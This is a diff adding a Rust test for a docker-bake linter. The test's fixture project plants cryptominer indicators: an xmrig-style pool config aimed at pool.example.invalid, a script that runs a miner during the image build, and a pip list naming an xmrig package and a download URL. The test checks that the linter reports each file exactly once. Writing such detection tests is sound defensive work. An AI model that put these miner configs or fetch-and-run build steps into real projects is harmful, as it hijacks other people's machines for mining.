@@ -54,3 +54,21 @@ fn what_bake_refuses_is_an_error() {
     let run = project.run(&["lint", "docker-bake.hcl"]);
     assert!(run.code == 1 && run.out.contains("docker buildx bake refuses this"), "{run:?}");
 }
+
+#[test]
+fn builds_of_one_context_look_at_its_files_once_and_overlook_none() {
+    let dockerfile = "FROM alpine AS a\nCOPY . /src\nRUN make -C /src\nFROM alpine AS b\nCOPY . /src\nRUN sh /src/later\nFROM alpine AS c\nCOPY other /other\nRUN pip install -r /other/odd.lst\n";
+    let bake = "target \"a\" { target = \"a\" }\ntarget \"b\" { target = \"b\" }\ntarget \"c\" {\n  target = \"c\"\n}\n";
+    let config = r#"{"pools":[{"url":"stratum+tcp://pool.example.invalid:3333","user":"web"}],"donate-level":1}"#;
+    let project = Project::with(&[
+        ("docker-bake.hcl", bake),
+        ("Dockerfile", dockerfile),
+        ("settings.json", config),
+        ("later", "/x -o stratum+tcp://pool.example.invalid:4444\n"),
+        ("other/odd.lst", "xmrig-python\nhttps://dl.example.invalid/xmrig.tar.gz\n"),
+    ]);
+    let run = project.run(&["lint", "--quiet", "--format", "short", "docker-bake.hcl"]);
+    let of = |file: &str| run.out.lines().filter(|line| line.contains(file)).count();
+    assert_eq!(of("settings.json"), 1, "{}", run.out);
+    assert!(of("later") == 1 && of("other/odd.lst") >= 1, "{}", run.out);
+}
